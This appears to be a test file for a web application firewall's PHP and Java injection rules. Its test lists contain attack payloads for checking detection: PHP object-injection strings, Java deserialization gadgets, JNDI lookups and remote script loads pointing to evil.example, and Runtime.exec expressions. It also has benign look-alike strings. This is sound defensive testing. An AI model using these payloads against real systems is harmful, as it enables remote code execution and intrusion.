import { expect } from 'chai';
import { inspectRequest } from '../../../plugins/waf/engine/index.js';
import { BROWSER_HEADERS, findMissed, findWronglyBlocked, listRules, makePolicy } from './helpers.js';

const PHP_ATTACKS = [
  'O:4:"User":1:{s:5:"admin";b:1;}',
  'a:1:{i:0;O:8:"Logger":1:{s:4:"file";s:9:"shell.php";}}',
  'C:11:"ArrayObject":21:{x:i:0;a:0:{};m:a:0:{}}',
  'a:2:{s:4:"user";s:3:"ann";s:4:"role";s:5:"admin";}',
  '<?php echo $_GET["c"]; ?>',
  '$_POST["f"]($_POST["a"]);',
  'php://filter/convert.base64-encode/resource=index.php',
];

const JAVA_ATTACKS = [
  'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvcg==',
  'aced0005737200116a6176612e7574696c2e486173684d6170',
  '["com.sun.rowset.JdbcRowSetImpl", {"dataSourceName": "ldap://evil.example/x", "autoCommit": true}]',
  '{"@type": "com.sun.rowset.JdbcRowSetImpl", "dataSourceName": "rmi://evil.example/x"}',
  '!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://evil.example/"]]]]',
  'jdbc:h2:mem:x;INIT=RUNSCRIPT FROM \'http://evil.example/x.sql\'',
  "${T(java.lang.Runtime).getRuntime().exec('id')}",
  'new java.lang.ProcessBuilder("id").start()',
];

const LOOK_ALIKES = [
  'Ratio a:2 {bonus}',
  'Cost: $5 (save $2)',
  '"org.example.shop" is our package name',
  '{"type": "com.example.Product", "qty": 2}',
  'Roboto font, ROO ABC',
  'Java: The Good Parts (book)',
  'Use the jdbc:mysql://db.example/shop URL',
];

describe('waf PHP and Java injection', () => {
  it('blocks PHP serialized objects, superglobals, variable calls and wrappers', () => {
    expect(findMissed(PHP_ATTACKS)).to.deep.equal([]);
  });

  it('blocks Java serialization, polymorphic type gadgets, JDBC scripts and runtime classes', () => {
    expect(findMissed(JAVA_ATTACKS)).to.deep.equal([]);
  });

  it('passes text that merely resembles them', () => {
    expect(findWronglyBlocked(LOOK_ALIKES)).to.deep.equal([]);
  });

  it('judges a JNDI lookup in any header, and passes ordinary header values', () => {
    const request = (headers: Record<string, string>) => ({ method: 'GET', path: '/', query: {}, headers: { ...BROWSER_HEADERS, ...headers } });
    expect(inspectRequest(request({ 'accept-language': '${jndi:ldap://evil.example/a}' }), makePolicy()).blocked).to.equal(true);
    expect(inspectRequest(request({ authorization: 'Bearer ${${lower:j}ndi:rmi://evil.example/x}' }), makePolicy()).blocked).to.equal(true);
    expect(inspectRequest(request({ 'accept-language': 'de-DE,de;q=0.9', 'if-none-match': 'W/"5e-1"' }), makePolicy()).blocked).to.equal(false);
  });

  it('names the technique', () => {
    expect(listRules('O:1:"A":0:{}', 'php')).to.include('php.serialized-object');
    expect(listRules('rO0ABXNyAA', 'java')).to.include('java.serialized-object');
  });
});
